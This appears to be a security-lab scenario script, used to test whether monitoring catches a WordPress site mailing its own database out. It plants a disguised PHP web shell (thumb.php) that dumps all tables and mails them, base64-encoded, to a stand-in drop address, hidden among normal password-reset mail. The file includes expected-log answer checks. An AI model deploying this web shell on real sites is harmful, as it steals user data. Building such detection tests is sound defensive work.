# A web site that writes to strangers all day writes once more, and more.
title="A page uploaded to a web log mails its database"
what="WordPress, the real one, mails welcomes and password resets to readers outside, as every day. An attacker's page, uploaded among the pictures months ago, then reads the site's database inside PHP, packs and encodes it there and hands it to PHP's mail() for an address in a domain the site writes to every day. No other program runs than the sendmail that the site always starts."
host=mx1.example.org user=www-data daemons="cron" expect=medium

. "$lab/lib/weblog.sh"
setup() {
  weblog || return 1
  mkdir -p /var/lib/wordpress/wp-content/uploads/2026/08
  cat > /var/lib/wordpress/wp-content/uploads/2026/08/thumb.php <<'P'
<?php
$d = new mysqli('localhost', 'weblog', 'lab-only', 'weblog');
$all = '';
foreach ($d->query('show tables')->fetch_all() as $t)
  foreach ($d->query("select * from $t[0]")->fetch_all() as $row) $all .= implode("\t", $row) . "\n";
echo mail($_POST['k'], 'Your digest', chunk_split(base64_encode(gzencode($all))));
P
  chown -R www-data: /var/lib/wordpress/wp-content
}
act() {
  weblog_up
  small_talk 2
  for who in anna@example.net ben@example.com carla@example.net dora@example.com; do
    weblog_post "wp-login.php?action=register" "user_login=${who%@*}&user_email=$who"; sleep 1
    weblog_post "wp-login.php?action=lostpassword" "user_login=${who%@*}"; sleep 1
  done
  weblog_post wp-content/uploads/2026/08/thumb.php "k=drop@example.net"
  wait_log 'to=<drop@example.net>.*status=sent' 20
  weblog_post "wp-login.php?action=lostpassword" "user_login=anna"; sleep 1
  small_talk 1
}
truth() {
  mail_step usual 'to=<anna@example.net>.*status=sent' 'what the site always sends'
  exec_step hand-over '(sendmail -t -i|sh -c /usr/sbin/sendmail -t -i)' 'PHP starts sendmail'
  mail_step sent 'to=<drop@example.net>.*status=sent' 'and this goes outside'
}
